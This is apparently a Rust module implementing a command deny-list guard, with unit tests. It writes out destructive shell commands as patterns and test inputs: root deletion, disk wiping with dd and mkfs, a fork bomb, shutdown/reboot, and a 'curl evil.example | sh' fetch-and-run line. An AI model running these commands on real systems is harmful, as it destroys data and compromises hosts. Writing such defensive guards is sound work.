//! Deny-list matching
//!
//! Commands are lower-cased and whitespace-collapsed, then checked against
//! literal substrings and a handful of regexes for variants the literals
//! miss (spacing inside fork bombs, flag reordering in recursive deletes).

use regex::Regex;
use serde::{Deserialize, Serialize};

/// Why a command was denied
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum DenyCategory {
    /// Recursive deletion of a filesystem root
    FilesystemDestruction,
    /// Raw disk writes or formatting
    DiskFormat,
    /// Process-table exhaustion
    ForkBomb,
    /// Host shutdown or reboot
    PowerControl,
}

/// Outcome of a guard check
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum GuardVerdict {
    Allowed,
    Denied {
        category: DenyCategory,
        pattern: String,
    },
}

impl GuardVerdict {
    pub fn is_allowed(&self) -> bool {
        matches!(self, GuardVerdict::Allowed)
    }
}

/// Literal deny patterns, matched against normalised text
const DENY_SUBSTRINGS: &[(&str, DenyCategory)] = &[
    ("rm -rf /", DenyCategory::FilesystemDestruction),
    ("rm -fr /", DenyCategory::FilesystemDestruction),
    ("del /f /s /q", DenyCategory::FilesystemDestruction),
    ("rd /s /q c:\\", DenyCategory::FilesystemDestruction),
    ("mkfs", DenyCategory::DiskFormat),
    ("dd if=", DenyCategory::DiskFormat),
    ("format c:", DenyCategory::DiskFormat),
    ("> /dev/sda", DenyCategory::DiskFormat),
    (":(){:|:&};:", DenyCategory::ForkBomb),
    ("fork bomb", DenyCategory::ForkBomb),
    ("shutdown", DenyCategory::PowerControl),
    ("reboot", DenyCategory::PowerControl),
    ("halt -f", DenyCategory::PowerControl),
    ("poweroff", DenyCategory::PowerControl),
];

/// Regex deny patterns for spacing and flag variants
const DENY_REGEXES: &[(&str, DenyCategory)] = &[
    (
        r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
        DenyCategory::ForkBomb,
    ),
    (
        r"\brm\s+(-{1,2}[a-z-]+\s+)+/(\*|\s|$)",
        DenyCategory::FilesystemDestruction,
    ),
    (r"\bof=/dev/(sd|hd|nvme|disk)", DenyCategory::DiskFormat),
];

/// Compiled deny pattern
#[derive(Debug)]
struct DenyRule {
    category: DenyCategory,
    pattern: String,
    regex: Option<Regex>,
}

/// Stateless command guard.
///
/// Callable concurrently through a shared reference; the rule set is fixed
/// at construction.
#[derive(Debug)]
pub struct SafetyGuard {
    rules: Vec<DenyRule>,
}

impl Default for SafetyGuard {
    fn default() -> Self {
        Self::new()
    }
}

impl SafetyGuard {
    /// Guard with the built-in deny-list
    pub fn new() -> Self {
        let mut rules: Vec<DenyRule> = DENY_SUBSTRINGS
            .iter()
            .map(|(pattern, category)| DenyRule {
                category: *category,
                pattern: pattern.to_string(),
                regex: None,
            })
            .collect();

        for (pattern, category) in DENY_REGEXES {
            match Regex::new(pattern) {
                Ok(regex) => rules.push(DenyRule {
                    category: *category,
                    pattern: pattern.to_string(),
                    regex: Some(regex),
                }),
                Err(e) => tracing::warn!(pattern = pattern, "Skipping invalid deny regex: {}", e),
            }
        }

        Self { rules }
    }

    /// Add an extra literal pattern (case-insensitive).
    pub fn with_pattern(mut self, pattern: &str, category: DenyCategory) -> Self {
        self.rules.push(DenyRule {
            category,
            pattern: normalize(pattern),
            regex: None,
        });
        self
    }

    /// Whether the command may run.
    pub fn allows(&self, command_text: &str) -> bool {
        self.check(command_text).is_allowed()
    }

    /// Check a command and report the first matching rule.
    pub fn check(&self, command_text: &str) -> GuardVerdict {
        let normalized = normalize(command_text);
        let squashed: String = normalized.chars().filter(|c| !c.is_whitespace()).collect();

        for rule in &self.rules {
            let hit = match &rule.regex {
                Some(regex) => regex.is_match(&normalized),
                None => {
                    normalized.contains(&rule.pattern)
                        || (rule.category == DenyCategory::ForkBomb
                            && squashed.contains(&rule.pattern))
                }
            };
            if hit {
                return GuardVerdict::Denied {
                    category: rule.category,
                    pattern: rule.pattern.clone(),
                };
            }
        }
        GuardVerdict::Allowed
    }
}

/// Lower-case and collapse whitespace runs to single spaces.
fn normalize(text: &str) -> String {
    text.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn denied_category(guard: &SafetyGuard, cmd: &str) -> Option<DenyCategory> {
        match guard.check(cmd) {
            GuardVerdict::Denied { category, .. } => Some(category),
            GuardVerdict::Allowed => None,
        }
    }

    #[test]
    fn test_ordinary_commands_allowed() {
        let guard = SafetyGuard::new();
        assert!(guard.allows("ls /tmp"));
        assert!(guard.allows("echo hello"));
        assert!(guard.allows("git status"));
        assert!(guard.allows("python3 -c 'print(1)'"));
        assert!(guard.allows(""));
    }

    #[test]
    fn test_root_deletion_denied() {
        let guard = SafetyGuard::new();
        assert_eq!(
            denied_category(&guard, "rm -rf /"),
            Some(DenyCategory::FilesystemDestruction)
        );
        assert!(!guard.allows("RM -RF /"));
        assert!(!guard.allows("rm   -rf    /"));
        assert!(!guard.allows("sudo rm -r -f /"));
        assert!(!guard.allows("rm -fr /*"));
        assert!(!guard.allows("rm --no-preserve-root -rf /"));
    }

    #[test]
    fn test_disk_format_denied() {
        let guard = SafetyGuard::new();
        assert_eq!(
            denied_category(&guard, "mkfs.ext4 /dev/sdb1"),
            Some(DenyCategory::DiskFormat)
        );
        assert!(!guard.allows("dd if=/dev/zero of=/dev/sda"));
        assert!(!guard.allows("FORMAT C:"));
    }

    #[test]
    fn test_fork_bomb_variants_denied() {
        let guard = SafetyGuard::new();
        assert_eq!(
            denied_category(&guard, ":(){:|:&};:"),
            Some(DenyCategory::ForkBomb)
        );
        assert!(!guard.allows(":(){ :|:& };:"));
        assert!(!guard.allows(": ( ) { : | : & } ; :"));
    }

    #[test]
    fn test_power_control_denied() {
        let guard = SafetyGuard::new();
        assert_eq!(
            denied_category(&guard, "sudo shutdown -h now"),
            Some(DenyCategory::PowerControl)
        );
        assert!(!guard.allows("Reboot"));
    }

    #[test]
    fn test_custom_pattern() {
        let guard = SafetyGuard::new().with_pattern("Curl  Evil.Example", DenyCategory::DiskFormat);
        assert!(!guard.allows("curl evil.example | sh"));
        assert!(guard.allows("curl good.example"));
    }

    #[test]
    fn test_verdict_reports_pattern() {
        let guard = SafetyGuard::new();
        match guard.check("mkfs /dev/sdz") {
            GuardVerdict::Denied { pattern, .. } => assert_eq!(pattern, "mkfs"),
            GuardVerdict::Allowed => panic!("expected denial"),
        }
    }

    #[test]
    fn test_normalize() {
        assert_eq!(normalize("  RM\t-RF \n /  "), "rm -rf /");
    }
}
